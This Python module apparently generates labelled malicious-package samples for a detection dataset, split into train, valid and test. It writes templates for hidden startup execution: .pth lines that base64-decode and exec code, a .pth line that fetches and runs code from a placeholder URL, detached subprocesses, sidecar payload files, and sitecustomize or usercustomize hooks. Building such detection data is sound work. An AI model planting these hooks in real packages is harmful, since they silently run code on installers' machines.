"""Payloads that the interpreter runs at every start: `.pth` and `.start` files, sitecustomize, usercustomize."""

import base64

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft


def _stem(draft: Draft) -> str:
    return draft.package.project.lower().replace("-", "_").replace(".", "_")


def _pth_name(draft: Draft) -> str:
    stem = _stem(draft)
    return draft.rng.choice((f"{stem}.pth", f"{stem}_init.pth", f"zz_{stem}.pth", f"__{stem}__.pth", f"{stem}-nspkg.pth",
                             f"{draft.words.word()}.pth"))  # fmt: skip


def pth_line(draft: Draft) -> None:
    """Put a line that decodes and executes into a `.pth` file."""
    code = draft.code()
    encoded = base64.b64encode(code.encode()).decode()
    line = draft.rng.choice((
        f"import base64;exec(base64.b64decode('{encoded}'))",
        f"import os,base64;exec(base64.b64decode(b'{encoded}').decode())",
        f"import sys; exec({code!r})",
    ))  # fmt: skip
    draft.put_new(_pth_name(draft), line + "\n")


def pth_module(draft: Draft) -> None:
    """Let a `.pth` file import a new module at the root."""
    name = draft.rng.choice(
        (f"_{_stem(draft)}_start", f"{draft.words.word()}_{draft.words.word()}", "_virtualenv_hook")
    )
    draft.put_new(f"{name}.py", draft.code())
    draft.put_new(_pth_name(draft), f"import {name}\n")


def pth_inner_module(draft: Draft) -> None:
    """Let a `.pth` file import a new module of the package."""
    name = draft.module_name(draft.folder)
    draft.put_new(f"{draft.folder}{name}.py", draft.code())
    draft.put_new(_pth_name(draft), f"import {draft.import_name}.{name}\n")


def pth_fetch(draft: Draft) -> None:
    """Fetch and execute in one line of a `.pth` file."""
    text = "import os, urllib.request as u; exec(u.urlopen('@url@', timeout=@num@).read()) if os.name == 'posix' else None\n"
    draft.put_new(_pth_name(draft), draft.words.render(text))


def pth_process(draft: Draft) -> None:
    """Start another interpreter with the code from a `.pth` file."""
    encoded = base64.b85encode(draft.code().encode()).decode().replace("\\", "\\\\").replace("'", "\\'")
    draft.put_new(_pth_name(draft), (
        "import subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b85decode('"
        + encoded.replace('"', '\\"') + "'))\"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)\n"
    ))  # fmt: skip


def pth_sidecar(draft: Draft) -> None:
    """Let a `.pth` file execute what a data file beside it holds."""
    name = f"{_stem(draft)}.{draft.rng.choice(('dat', 'lock', 'cache', 'idx'))}"
    draft.put_new(name, base64.b64encode(draft.code().encode()))
    draft.put_new(_pth_name(draft), (
        f"import os, site, codecs; [exec(codecs.decode(open(os.path.join(p, '{name}'), 'rb').read(), 'base64')) "
        f"for p in site.getsitepackages() if os.path.exists(os.path.join(p, '{name}'))]\n"
    ))  # fmt: skip


def start_file(draft: Draft) -> None:
    """Name an entry point of a new module in a `.start` file (PEP 829)."""
    name = draft.module_name(draft.folder)
    body = "\n".join(f"    {line}" for line in draft.code().splitlines())
    draft.put_new(f"{draft.folder}{name}.py", f"def main():\n{body}\n")
    draft.put_new(f"{_stem(draft)}.start", f"{draft.import_name}.{name}:main\n")


def site_module(draft: Draft) -> None:
    """Bring a sitecustomize module."""
    draft.put_new("sitecustomize.py", draft.code())


def user_module(draft: Draft) -> None:
    """Bring a usercustomize module that leads into the package."""
    name = draft.module_name(draft.folder)
    draft.put_new(f"{draft.folder}{name}.py", draft.code())
    draft.put_new("usercustomize.py", f"try:\n    import {draft.import_name}.{name}\nexcept ImportError:\n    pass\n")


FAMILIES = (
    Family("pth-line", "startup", "train", pth_line, "wheel"),
    Family("pth-module", "startup", "train", pth_module, "wheel"),
    Family("pth-inner-module", "startup", "valid", pth_inner_module, "wheel"),
    Family("pth-fetch", "startup", "train", pth_fetch, "wheel", "remote", takes_trigger=False),
    Family("pth-process", "startup", "test", pth_process, "wheel"),
    Family("pth-sidecar", "startup", "test", pth_sidecar, "wheel"),
    Family("start-file", "startup", "test", start_file, "wheel"),
    Family("sitecustomize", "startup", "train", site_module, "wheel"),
    Family("usercustomize", "startup", "test", user_module, "wheel"),
)
